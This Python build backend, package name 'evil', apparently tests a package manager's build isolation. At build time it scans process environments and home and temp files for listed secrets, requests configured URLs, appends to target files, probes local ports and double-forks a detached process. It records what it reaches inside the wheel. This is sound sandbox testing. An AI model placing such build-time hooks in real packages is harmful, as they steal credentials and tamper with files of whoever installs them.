"""A build system that looks for what it must not find, and packs what it has found into the package.

`targets.json` beside it says where to look.
"""

import json
import os
import socket
import sys
import urllib.request
import zipfile
from pathlib import Path


FOUND = Path(__file__).with_name("found.json")
METADATA = "Metadata-Version: 2.1\nName: evil\nVersion: 1.0\n"
WHEEL = "Wheel-Version: 1.0\nGenerator: evil\nRoot-Is-Purelib: true\nTag: py3-none-any\n"


def prepare_metadata_for_build_wheel(metadata_directory, config_settings=None):
    """Is called while the packages of the project are resolved. What it finds, it tells in the name of an author."""
    folder = Path(metadata_directory, "evil-1.0.dist-info")
    folder.mkdir()
    (folder / "METADATA").write_text(METADATA)
    (folder / "WHEEL").write_text(WHEEL)
    FOUND.write_text(json.dumps(attack()))
    return folder.name


def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
    name = "evil-1.0-py3-none-any.whl"
    found = [json.loads(FOUND.read_text())] if FOUND.exists() else []
    files = {"evil.py": f"FOUND = {[*found, attack()]!r}\n", "evil-1.0.dist-info/METADATA": METADATA}
    files["evil-1.0.dist-info/WHEEL"] = WHEEL
    with zipfile.ZipFile(Path(wheel_directory, name), "w") as made:
        for path, text in files.items():
            made.writestr(path, text)
        made.writestr("evil-1.0.dist-info/RECORD", "".join(f"{path},,\n" for path in [*files, "RECORD"]))
    return name


def attack():
    targets = json.loads(Path(__file__).with_name("targets.json").read_text())
    found = []
    secrets = [secret.encode() for secret in targets["secrets"]]
    for process in filter(str.isdigit, os.listdir("/proc")):
        for place in ("environ", "cmdline"):
            if any(secret in _read(f"/proc/{process}/{place}") for secret in secrets):
                found.append(f"a secret in {place}")
    home, temporary = (Path(os.environ.get(name, "/nonexistent")) for name in ("HOME", "TMPDIR"))
    files = [*map(Path, targets["configuration"]), *home.glob("*"), *temporary.glob("*"), *temporary.parent.glob("*")]
    found += [f"a secret in {file}" for file in files if any(secret in _read(file) for secret in secrets)]
    found += [f"{method} {url}" for method, url in targets["asked"] if _asks(method, url)]
    found += [f"read {path}" for path in targets["read"] if _read(path)]
    found += [f"wrote {path}" for path in targets["write"] if _append(path)]
    found += [f"connected to {name}" for name, port in targets["ports"].items() if _connects(port)]
    _leave(targets["daemon"])
    return sorted(set(found))


def _read(path):
    try:
        return Path(path).read_bytes()
    except OSError:
        return b""


def _append(path):
    try:
        with Path(path).open("a") as file:
            return file.write("# changed by a build\n")
    except OSError:
        return 0


def _connects(port):
    try:
        with socket.create_connection(("127.0.0.1", port), timeout=3):
            return True
    except OSError:
        return False


def _asks(method, url):
    """Ask as uv does: in a build, the same variables lead to what signs in for it."""
    try:
        with urllib.request.urlopen(urllib.request.Request(url, method=method), timeout=10) as answer:
            return answer.status == 200
    except OSError:
        return False


def _leave(name):
    """Leave a process of this name, which has nothing to do with this one any more."""
    if os.fork():
        return
    os.setsid()
    if os.fork():
        os._exit(0)
    nothing = os.open(os.devnull, os.O_RDWR)
    for descriptor in range(3):  # else uv would wait for the end of what is printed
        os.dup2(nothing, descriptor)
    os.execv(sys.executable, [name, "-c", "import time; time.sleep(600)"])
